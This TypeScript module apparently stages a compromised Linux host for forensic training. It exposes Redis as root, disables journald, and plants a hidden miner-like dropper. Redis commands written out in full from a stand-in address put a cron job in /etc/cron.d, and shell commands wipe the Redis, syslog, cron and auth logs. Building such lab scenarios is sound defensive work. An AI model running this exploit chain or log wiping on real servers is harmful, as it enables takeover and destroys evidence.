// Three weeks later: the dump in the crontab and the open Redis are what is left.
import type { Dress } from '../../dress.ts'
import { dropper } from '../../dropper.ts'
import { ordinary } from '../../past.ts'
import { openRedis, redisCommands } from '../../redis.ts'
import type { Stage } from '../../stage.ts'
import { rotating } from '../../wiping.ts'

export function dress(dress: Dress): void {
  dress.logins({ ...ordinary, days: 7 })
  dress.write('/etc/systemd/journald.conf.d/none.conf', '[Journal]\nStorage=none\n')
  openRedis(dress, { bind: '0.0.0.0', user: 'root' })
}

export async function plant(stage: Stage): Promise<void> {
  const line = dropper(stage, { path: '/var/lib/.cache/.kd/kdevtmpd', cron: false })
  stage.mark('occurrence')
  await redisCommands(stage, '203.0.113.201', [
    ['FLUSHALL'],
    ['SET', 'backup1', `\n\n\n*/2 * * * * root ${line}\n\n`],
    ['CONFIG', 'SET', 'dir', '/etc/cron.d'],
    ['CONFIG', 'SET', 'dbfilename', 'sysupdate'],
    ['SAVE'],
    ['CONFIG', 'SET', 'dir', '/var/lib/redis'],
    ['CONFIG', 'SET', 'dbfilename', 'dump.rdb'],
  ])
  await stage.byCron(line)
  await stage.inside('rm -f /var/log/redis/*; rm -f /var/log/syslog* /var/log/cron.log* /var/log/auth.log*; systemctl restart rsyslog')
  await stage.later(21 * 24, { guesses: 30 })
  await stage.inside(rotating)
}
